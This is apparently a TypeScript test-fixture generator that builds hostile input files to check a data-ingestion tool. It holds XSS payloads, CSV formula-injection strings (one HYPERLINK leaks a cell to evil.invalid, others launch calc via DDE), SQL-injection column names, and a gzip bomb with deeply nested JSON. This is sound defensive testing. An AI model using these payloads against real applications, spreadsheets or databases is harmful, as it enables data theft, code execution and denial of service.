/**
 * The hostile input set. Small files are committed in `samples/hostile/` (regenerate them with
 * `node --import tsx scripts/make-hostile-samples.ts --small samples/hostile`); the big ones (a
 * 64 MiB line, a gzip that expands a thousandfold, JSON nested 100,000 deep, thousands of
 * columns) are written at test time into a temp folder with `--big DIR`, never committed.
 * Everything is deterministic: the same bytes on every run.
 */
import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createGzip, gzipSync } from 'node:zlib';

/** Markup and script payloads that must only ever appear as text. */
export const MARKUP_PAYLOADS = [
  '<script>alert("bs-xss-1")</script>',
  '<img src=x onerror=alert("bs-xss-2")>',
  '"><svg/onload=alert("bs-xss-3")>',
  '[click me](javascript:alert("bs-xss-4"))',
  '<a href="javascript:alert(\'bs-xss-5\')">x</a>',
  '{{constructor.constructor("alert(\'bs-xss-6\')")()}}',
  '<iframe srcdoc="<script>alert(\'bs-xss-7\')</script>">',
  '<style>@import "http://evil.invalid/bs-xss-8.css";</style>',
] as const;

/** Values that spreadsheets would evaluate if a CSV export carried them unchanged. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.invalid/?leak="&A1,"bs-formula-1")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '  =1+1',
] as const;

/** Deterministic pseudo-random bytes (xorshift32), so the garbage file is the same each time. */
export function garbage(length: number, seed = 0x9e3779b9): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i += 1) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

function csvQuote(value: string): string {
  return `"${value.replaceAll('"', '""')}"`;
}

function utf16be(text: string): Buffer {
  const le = Buffer.from(text, 'utf16le');
  for (let i = 0; i + 1 < le.length; i += 2) {
    const a = le[i]!;
    le[i] = le[i + 1]!;
    le[i + 1] = a;
  }
  return le;
}

/** The small hostile files: name → bytes. Each is described in samples/hostile/EXPECTED.md. */
export function smallHostileSamples(): Record<string, Buffer> {
  const files: Record<string, string | Buffer> = {};

  // Markup and script in column names, user ids and chat text (JSON lines, CSV, ClickHouse TSV).
  files['markup-everywhere.jsonl'] = MARKUP_PAYLOADS.map((p, i) =>
    JSON.stringify({ user_id: `user-${i}${p}`, [`<b>${i % 2 ? 'message' : 'text'}</b>`]: `hello ${p} mail me at xss${i}@example.org`, [p]: 'value under a markup key' }),
  ).join('\n') + '\n';
  files['markup-everywhere.csv'] =
    ['user_id', 'message', '<script>alert("bs-xss-col")</script>'].map(csvQuote).join(',') + '\n' +
    MARKUP_PAYLOADS.map((p, i) => [`u${i}${p}`, `see ${p} and call +44 20 7946 09${String(i).padStart(2, '0')}`, p].map(csvQuote).join(',')).join('\n') + '\n';
  files['markup-clickhouse.tsv'] =
    'user_id\tmessage\n' + MARKUP_PAYLOADS.map((p, i) => `u${i}<i>x</i>\t${p.replaceAll('\\', '\\\\').replaceAll('\t', '\\t')}\\n<h1>second line</h1>`).join('\n') + '\n';

  // Spreadsheet formulas in values that can reach the notification list (names, emails, phones).
  files['formulas.csv'] =
    'name,email,phone,message\n' +
    FORMULA_PAYLOADS.map((f, i) => [f, `${i === 0 ? '=' : ''}formula${i}@example.org`, `+3361234567${i}`, `${f} for formula${i}@example.org`].map(csvQuote).join(',')).join('\n') + '\n';

  // Column names that look like SQL, hold quotes, repeat, are empty, or carry control characters.
  const sqlNames = ['id', 'x"; DROP TABLE sources; --', "Robert'); DROP TABLE cells;--", 'select * from findings', '', 'id', 'ID', '"', "'", '__row', '__line', 'a\u202Eb', 'tab\there', ' ', 'col;DELETE FROM rejects'];
  files['sql-column-names.csv'] = sqlNames.map(csvQuote).join(',') + '\n' + sqlNames.map((_, i) => csvQuote(`v${i}`)).join(',') + '\n' + sqlNames.map((_, i) => csvQuote(`w${i}`)).join(',') + '\n';
  files['sql-keys.jsonl'] = [
    { 'a"b': 1, "c'd": 'x', '': 'empty key', 'e.f': 'dotted', e: { f: 'nested same path' }, '$.g': 'dollar', 'h/i~j': 'pointer chars' },
    { 'a"b': 2, "c'd": 'y', '': 'again', '; DROP TABLE sources;': 'z' },
  ].map((o) => JSON.stringify(o)).join('\n') + '\n';

  // Broken delimited text: an unterminated quote, ragged rows (too few / too many fields).
  files['unterminated-quote.csv'] = 'email,note\nalice@example.org,fine\nbob@example.org,"never closed\ncarol@example.org,after the quote\n';
  files['ragged-rows.csv'] = 'a,b,c\n1,2,3\n4,5\n6,7,8,9\n10,11,12\n\n13,14,15\n';
  files['ragged-rows.tsv'] = 'a\tb\n1\t2\nonly-one\n3\t4\t5\n6\t7\n';

  // Compression and encoding damage.
  const gz = gzipSync(Buffer.from(Array.from({ length: 2000 }, (_, i) => JSON.stringify({ i, msg: `row ${i}` })).join('\n') + '\n'));
  files['truncated.jsonl.gz'] = gz.subarray(0, Math.floor(gz.length * 0.6));
  files['invalid-utf8.csv'] = Buffer.concat([Buffer.from('name,city\nok,Paris\nbad,'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from('\nalso ok,Lyon\n')]);
  files['mixed-encoding.csv'] = Buffer.concat([Buffer.from('name,city\nJosé,Zürich\n'), Buffer.from('Jos\xe9,Z\xfcrich\n', 'latin1'), Buffer.from('Łukasz,Kraków\n')]);
  files['nul-bytes.csv'] = Buffer.concat([
    Buffer.from('user,message\n' + Array.from({ length: 10 }, (_, i) => `u${i},an ordinary message number ${i}\n`).join('')),
    Buffer.from('u10,x'), Buffer.from([0, 0]), Buffer.from('y\n'),
    Buffer.from('u11,after the NUL bytes\n'),
  ]);
  files['utf16le-bom.csv'] = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('name,email\nÅsa,asa@example.se\nJürgen,j@example.de\n', 'utf16le')]);
  files['utf16be-bom.tsv'] = Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be('name\temail\nÅsa\tasa@example.se\n')]);
  files['utf16le-no-bom.csv'] = Buffer.from('name,email\nAsa,asa@example.se\n', 'utf16le');

  // Empty and nearly empty.
  files['empty.csv'] = '';
  files['header-only.csv'] = 'user_id,email,message\n';
  files['whitespace-only.txt'] = '   \n\t\n  \n';

  // Binary garbage with a text name, and names that lie about the format.
  files['binary-garbage.csv'] = garbage(8192);
  files['jsonl-named.parquet'] = '{"user":"a","msg":"I am JSON lines, not Parquet"}\n{"user":"b","msg":"second"}\n';
  files['gzip-named.csv'] = gzipSync(Buffer.from('user\tmsg\nu1\tI am gzip-compressed TSV\nu2\tsecond\n'));
  files['png-named.jsonl'] = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), garbage(2048, 7)]);
  files['fake-parquet-magic.csv'] = Buffer.concat([Buffer.from('PAR1'), garbage(1024, 3)]);

  // JSON that is broken or not objects.
  files['broken.json'] = '[{"a":1},{"a":2},{"a":';
  files['jsonl-mixed.jsonl'] = '{"a":1}\nnot json at all\n[1,2,3]\n"a string"\n{"a":2}\n{"a":\n';
  files['control-chars.jsonl'] = JSON.stringify({ user: 'u\u0001\u001b[31mred\u001b[0m', msg: 'bidi \u202Eevil\u202C and zero\u200Bwidth and \u0007bell' }) + '\n' + 'line with a raw \u0001 control\n';

  const out: Record<string, Buffer> = {};
  for (const [name, content] of Object.entries(files)) out[name] = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
  return out;
}

export interface BigSamples {
  longLine: string;
  gzipBomb: string;
  deepJsonArray: string;
  deepJsonLines: string;
  wideCsv: string;
  wideTsv: string;
  tooWideCsv: string;
  denseLine: string;
}

export const LONG_LINE_BYTES = 64 * 1024 * 1024;
export const BOMB_DECOMPRESSED_BYTES = 256 * 1024 * 1024;
export const DEEP_NESTING = 100_000;
/** Distinct e-mail addresses (and as many phone numbers) in the one dense line. */
export const DENSE_LINE_PEOPLE = 120_000;

/** Writes the big hostile files into `dir` (streamed: never a 64 MiB string in memory). */
export async function writeBigHostileSamples(dir: string): Promise<BigSamples> {
  mkdirSync(dir, { recursive: true });
  const p = (name: string) => path.join(dir, name);

  // One 64 MiB line between two normal ones (JSON lines).
  const longLine = p('long-line.jsonl');
  {
    const out = createWriteStream(longLine);
    out.write('{"user":"before","msg":"short line"}\n{"user":"long","msg":"');
    const block = Buffer.alloc(1024 * 1024, 'A');
    for (let i = 0; i < LONG_LINE_BYTES / block.length; i += 1) if (!out.write(block)) await once(out, 'drain');
    out.write('"}\n{"user":"after","msg":"short line"}\n');
    out.end();
    await once(out, 'finish');
  }

  // A gzip that expands about a thousandfold: one JSON line, then 256 MiB of spaces on one line.
  const gzipBomb = p('bomb.jsonl.gz');
  {
    const gzip = createGzip({ level: 9 });
    const out = createWriteStream(gzipBomb);
    gzip.pipe(out);
    gzip.write('{"user":"bomb","msg":"first line"}\n');
    const block = Buffer.alloc(1024 * 1024, 0x20);
    for (let i = 0; i < BOMB_DECOMPRESSED_BYTES / block.length; i += 1) if (!gzip.write(block)) await once(gzip, 'drain');
    gzip.end();
    await once(out, 'finish');
  }

  // JSON nested 100,000 deep: as a document, and as one line among normal JSON lines.
  const deepJsonArray = p('deep.json');
  writeFileSync(deepJsonArray, '['.repeat(DEEP_NESTING) + ']'.repeat(DEEP_NESTING));
  const deepJsonLines = p('deep.jsonl');
  writeFileSync(deepJsonLines, '{"user":"a","msg":"ok"}\n' + '{"x":'.repeat(DEEP_NESTING) + '1' + '}'.repeat(DEEP_NESTING) + '\n{"user":"b","msg":"ok"}\n' + `{"user":"c","msg":${'['.repeat(DEEP_NESTING)}${']'.repeat(DEEP_NESTING)}}\n`);

  // Thousands of columns: under the 4096 limit, and over it.
  const wide = (n: number, sep = ',') => Array.from({ length: n }, (_, i) => `col_${i}`).join(sep) + '\n' + Array.from({ length: n }, (_, i) => String(i)).join(sep) + '\n';
  const wideCsv = p('wide-2000.csv');
  writeFileSync(wideCsv, wide(2000));
  // The same as a ClickHouse TabSeparatedWithNames export (its own loader, with array probes).
  const wideTsv = p('wide-2000.tsv');
  writeFileSync(wideTsv, wide(2000, '\t'));
  const tooWideCsv = p('wide-5000.csv');
  writeFileSync(tooWideCsv, wide(5000));
  // One line (~8 MB) holding 120,000 distinct e-mail addresses and phone numbers among non-ASCII
  // text: a dumped contact list in a single cell, the worst case for work per match.
  const denseLine = p('dense-line.jsonl');
  {
    const entries = Array.from({ length: DENSE_LINE_PEOPLE }, (_, i) => `Kontakt ü${i}: p${i}.nachname@beispiel-post.de Tel +49 30 9${String(i).padStart(6, '0')}; `);
    const lines = [
      { user_id: 'u1', msg: 'mail me at first.person@example.org' },
      { user_id: 'u2', msg: entries.join('') },
      { user_id: 'u3', msg: 'last line' },
    ];
    writeFileSync(denseLine, lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
  }
  return { longLine, gzipBomb, deepJsonArray, deepJsonLines, wideCsv, wideTsv, tooWideCsv, denseLine };
}

async function main(argv: string[]): Promise<void> {
  const smallAt = argv.indexOf('--small');
  const bigAt = argv.indexOf('--big');
  if (smallAt < 0 && bigAt < 0) {
    process.stderr.write('usage: make-hostile-samples.ts [--small DIR] [--big DIR]\n');
    process.exitCode = 2;
    return;
  }
  if (smallAt >= 0) {
    const dir = path.resolve(argv[smallAt + 1] ?? 'samples/hostile');
    mkdirSync(dir, { recursive: true });
    for (const [name, bytes] of Object.entries(smallHostileSamples())) writeFileSync(path.join(dir, name), bytes);
    process.stdout.write(`wrote ${Object.keys(smallHostileSamples()).length} small hostile files to ${dir}\n`);
  }
  if (bigAt >= 0) {
    const dir = path.resolve(argv[bigAt + 1] ?? 'hostile-big');
    const big = await writeBigHostileSamples(dir);
    process.stdout.write(`wrote ${Object.values(big).length} big hostile files to ${dir}\n`);
  }
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main(process.argv.slice(2)).catch((error: unknown) => {
    process.stderr.write(`make-hostile-samples: ${error instanceof Error ? error.message : String(error)}\n`);
    process.exitCode = 1;
  });
}
